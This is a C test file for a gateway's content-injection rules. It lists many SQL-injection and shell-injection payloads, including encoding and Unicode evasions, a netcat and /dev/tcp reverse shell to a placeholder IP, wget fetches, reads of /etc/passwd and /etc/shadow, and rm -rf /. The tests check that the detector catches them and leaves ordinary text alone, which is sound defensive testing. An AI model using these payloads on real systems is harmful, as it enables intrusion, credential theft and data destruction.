// SPDX-License-Identifier: GPL-2.0
/*
 * policies/content-injection.xml: what it finds, in many forms, and ordinary text that it leaves
 * alone.
 */
#include "content_rules.h"
#include "run.h"

/* ---- the shipped rules ---- */

static struct fmp_inspector *load_shipped_rules(void)
{
	char text[1024];

	snprintf(
		text, sizeof(text),
		ROOT
		"<gateway><content rules='%s%s/policies/content-injection.xml'/></gateway></policy>",
		*top_path() == '/' ? "" : getenv("PWD"), *top_path() == '/' ? top_path() : "");
	return with_rules(FMP_SECURITY_BC, text);
}

static void expect_match(struct fmp_inspector *i, const char *words, const char *rule)
{
	char text[1024];

	snprintf(text, sizeof(text), SAYS("<![CDATA[%s]]>"), words);
	expect_refused_by(i, text, rule);
}

START_TEST(injections_are_found)
{
	static const char *const rows[][2] = {
		{ "1 UNION SELECT name FROM users", "sql-" },
		{ "1'/**/uNiOn/**/aLl/**/SeLeCt/**/1", "sql-" },
		{ "x' union(select 1)", "sql-" },
		{ "' or 1=1", "sql-" },
		{ "' OR 'a'='a", "sql-" },
		{ "x\" || \"1\" = \"1", "sql-" },
		{ "1') and (select 1)=1", "sql-" },
		{ "a' and substr like 'a%", "sql-" },
		{ "7 or 1=1", "sql-" },
		{ "7 OR '1' = '1'", "sql-" },
		{ "7 and/**/2<>3", "sql-" },
		{ "admin'--", "sql-" },
		{ "admin' #", "sql-" },
		{ "admin')) -- ", "sql-" },
		{ "1; DROP TABLE users", "sql-" },
		{ "1;delete from orders", "sql-" },
		{ "1; exec master..xp_cmdshell 'dir'", "sql-" },
		{ "1 and sleep(5)", "sql-" },
		{ "1 waitfor delay '0:0:5'", "sql-" },
		{ "(select table_name from information_schema.tables)", "sql-" },
		{ "x; cat /etc/passwd", "shell-" },
		{ "x;id", "shell-" },
		{ "x && wget http://a.example/b", "shell-" },
		{ "x | nc 192.0.2.1 4444", "shell-" },
		{ "`whoami`", "shell-" },
		{ "x\n/bin/sh -i", "shell-" },
		{ "$(reboot)", "shell-" },
		{ "a;cat${IFS}b", "shell-" },
		{ "../../../etc/shadow", "shell-" },
		{ "a > /tmp/b", "shell-" },
		{ "cmd.exe /c dir", "shell-" },
		{ "' OR true--", "sql-" },
		{ "' OR EXISTS(SELECT 1)--", "sql-" },
		{ "' || (SELECT 1)='1", "sql-" },
		{ "1' ORDER BY 5--", "sql-" },
		{ "1' GROUP BY x HAVING 1=1--", "sql-" },
		{ "'\xc2\xa0OR\xc2\xa0"
		  "1=1",
		  "sql-" },
		{ "'\xe2\x80\x8bOR\xe2\x80\x8b 1=1", "sql-" },
		{ "\xef\xbc\x87 \xef\xbc\xaf\xef\xbc\xb2 1=1", "sql-" },
		{ "%27%20or%201=1", "sql-" },
		{ "%2527+or+1=1", "sql-" },
		{ ";/bin/?\?/id", "shell-" },
		{ ";i\\d", "shell-" },
		{ "x;$HOME", "shell-" },
		{ "$((1+1))", "shell-" },
	};
	struct fmp_inspector *i = load_shipped_rules();

	for (size_t n = 0; n < sizeof(rows) / sizeof(rows[0]); n++)
		expect_match(i, rows[n][0], rows[n][1]);
	fmp_inspector_free(i);
}
END_TEST

/* Folding is optional, and hides nothing of the original text. */
START_TEST(a_text_is_folded_where_the_rule_says_so)
{
	static const char wide[] = "\xef\xbd\x85\xef\xbd\x96\xef\xbd\x89\xef\xbd\x8c";
	static const char *const read_as_evil[] = { wide,	"ev\xe2\x80\x8bil", "%65vil",
						    "%2565vil", "%u0065vil",	    "evil" };
	struct fmp_inspector *folds =
		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='^evil$' fold='yes'/>"));
	struct fmp_inspector *plain =
		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='^evil$'/>"));
	struct fmp_inspector *escape =
		with_rules(FMP_SECURITY_BC, POLICY("<rule name='r' regex='%65' fold='yes'/>"));
	char text[512];

	for (size_t n = 0; n < sizeof(read_as_evil) / sizeof(read_as_evil[0]); n++) {
		snprintf(text, sizeof(text), SAYS("%s"), read_as_evil[n]);
		expect_refused_by(folds, text, "\"r\" in x");
		expect_refused_by(plain, text,
				  strcmp(read_as_evil[n], "evil") ? NULL : "\"r\" in x");
	}
	expect_refused_by(escape, SAYS("%65vil"), "\"r\" in x");
	expect_refused_by(folds, SAYS("100% evil"), NULL);
	expect_refused_by(folds, SAYS("%c3%a9vil"), NULL);
	fmp_inspector_free(folds);
	fmp_inspector_free(plain);
	fmp_inspector_free(escape);
}
END_TEST

/* ---- kinds of injection, varied ---- */

#define ALLOWED_MISSES 2 /* in a hundred */

struct misses {
	unsigned tried, missed;
	char text[2000];
};

static void try_one(struct fmp_inspector *i, const char *words, struct misses *m)
{
	char text[1024];
	struct fmp_inspection v;
	size_t n = strlen(m->text);

	snprintf(text, sizeof(text), SAYS("<![CDATA[%s]]>"), words);
	v = inspect_bytes(i, text, strlen(text));
	m->tried++;
	if (v.accepted) {
		m->missed++;
		snprintf(m->text + n, sizeof(m->text) - n, "%s\n", words);
	}
	fmp_inspection_clear(&v);
}

static void expect_few(const struct misses *m, unsigned least)
{
	ck_assert_uint_ge(m->tried, least);
	ck_assert_msg(m->missed * 100 <= m->tried * ALLOWED_MISSES, "%u of %u pass:\n%s", m->missed,
		      m->tried, m->text);
}

START_TEST(sql_of_many_forms)
{
	static const char *const before[] = { "1", "7'", "x'", "x\"", "1')", "x'))", "-1" };
	static const char *const gap[] = {
		" ", "/**/", "\t", "\n", "  ", "\xc2\xa0", "\xe3\x80\x80"
	};
	static const char *const behind[] = {
		"or%s1=1",
		"OR%s'a'='a",
		"Or%strue--",
		"and%sexists(select 1)--",
		"||%s(select 1)='1",
		"union%sselect 1",
		"UNION%sALL SELECT null,null--",
		"uNiOn%sdistinct select name from users",
		"order%sby 5--",
		"group%sby x having 1=1--",
		"having%s1=1--",
		"and%ssleep(5)--",
		"and%sascii(substr((select 1),1,1))>64--",
		"or%s1 like 1",
		"xor%s2<3",
		"and%snot 1=2",
		"or%s(1)=(1)",
		"and%s1 between 0 and 2",
		"or%sversion()=1",
		"and%s(select count(*) from users)>0",
		"procedure%sanalyse(1)",
		"or%sname is not null--",
	};
	struct fmp_inspector *i = load_shipped_rules();
	struct misses m = { .text = "" };
	char tail[128], words[256];

	for (size_t b = 0; b < sizeof(before) / sizeof(*before); b++)
		for (size_t g = 0; g < sizeof(gap) / sizeof(*gap); g++)
			for (size_t t = 0; t < sizeof(behind) / sizeof(*behind); t++) {
				const char *at = strstr(behind[t], "%s");

				snprintf(tail, sizeof(tail), "%.*s%s%s", (int)(at - behind[t]),
					 behind[t], gap[g], at + 2);
				snprintf(words, sizeof(words), "%s%s%s", before[b], gap[g], tail);
				try_one(i, words, &m);
			}
	expect_few(&m, 1000);
	fmp_inspector_free(i);
}
END_TEST

START_TEST(commands_of_many_forms)
{
	static const char *const before[] = { "x;", "x; ", "|",	 "x | ", "a&&",	 "a && ",
					      "||", "`",   "$(", "x\n",	 "\"; ", "';" };
	static const char *const behind[] = {
		"id;",
		"cat /etc/passwd",
		"/bin/ls -la",
		"/bin/?\?/id",
		"/?\?\?/b?\?h -c id",
		"wget http://a.example/x",
		"curl -s a.example",
		"nc -e /bin/sh 192.0.2.1 4444",
		"ping -c 1 192.0.2.1",
		"sleep 5",
		"$HOME/x",
		"${IFS}x",
		"i\\d",
		"wh''oami",
		"cat$IFS/etc/hosts",
		"bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
		"rm -rf /",
		"python3 -c 'import os'",
		"busybox telnetd -l /bin/sh",
	};
	struct fmp_inspector *i = load_shipped_rules();
	struct misses m = { .text = "" };
	char words[256];

	for (size_t b = 0; b < sizeof(before) / sizeof(*before); b++)
		for (size_t t = 0; t < sizeof(behind) / sizeof(*behind); t++) {
			snprintf(words, sizeof(words), "%s%s", before[b], behind[t]);
			try_one(i, words, &m);
		}
	expect_few(&m, 200);
	fmp_inspector_free(i);
}
END_TEST

START_TEST(what_people_write_is_not)
{
	static const char *const rows[] = {
		"M. O'Brien",
		"O'Neill and Sons, 12-14 Union Street; the select committee of the union",
		"The credit union selects its members; cat owners are welcome, and so is id 5",
		"Rock 'n' roll or jazz? 'Both' and more -- he said",
		"price = 12.50 or less; qty > 5 & < 10",
		"Drop the table at the door; update me on the set. Delete from the list what you like",
		"Please sleep well (not on the bench); wait for a delay",
		"see www.example.org/a/b;c=d?x=1&id=2 | type B | net 30 days",
		"$100 (or 90%) {a} `quoted`",
		"C:\\Program Files\\x; ls. ps: kill time, touch wood",
		"1 or 2, 3 and 4; 'a' and 'b', \"c\" or \"d\"",
		"text in Gr\xc3\xbc\xc3\x9f"
		"e, \xe2\x80\x9cquotes\xe2\x80\x9d; \xe4\xb8\xad\xe6\x96\x87",
	};
	static const char *const vectors[] = { "plain/plain-1k.xml", "plain/plain-100k.xml" };
	struct fmp_inspector *i = load_shipped_rules();

	for (size_t n = 0; n < sizeof(rows) / sizeof(rows[0]); n++)
		expect_match(i, rows[n], NULL);
	for (size_t n = 0; n < 2; n++) {
		struct bytes b = read_vector(vectors[n]);

		expect_refused_by(i, b.p, NULL);
		free(b.p);
	}
	fmp_inspector_free(i);
}
END_TEST

int main(void)
{
	TCase *tc = tcase_create("injection");

	tcase_add_unchecked_fixture(tc, vectors_setup, vectors_teardown);
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, injections_are_found);
	tcase_add_test(tc, sql_of_many_forms);
	tcase_add_test(tc, commands_of_many_forms);
	tcase_add_test(tc, a_text_is_folded_where_the_rule_says_so);
	tcase_add_test(tc, what_people_write_is_not);
	return run_tcase("injection", tc);
}
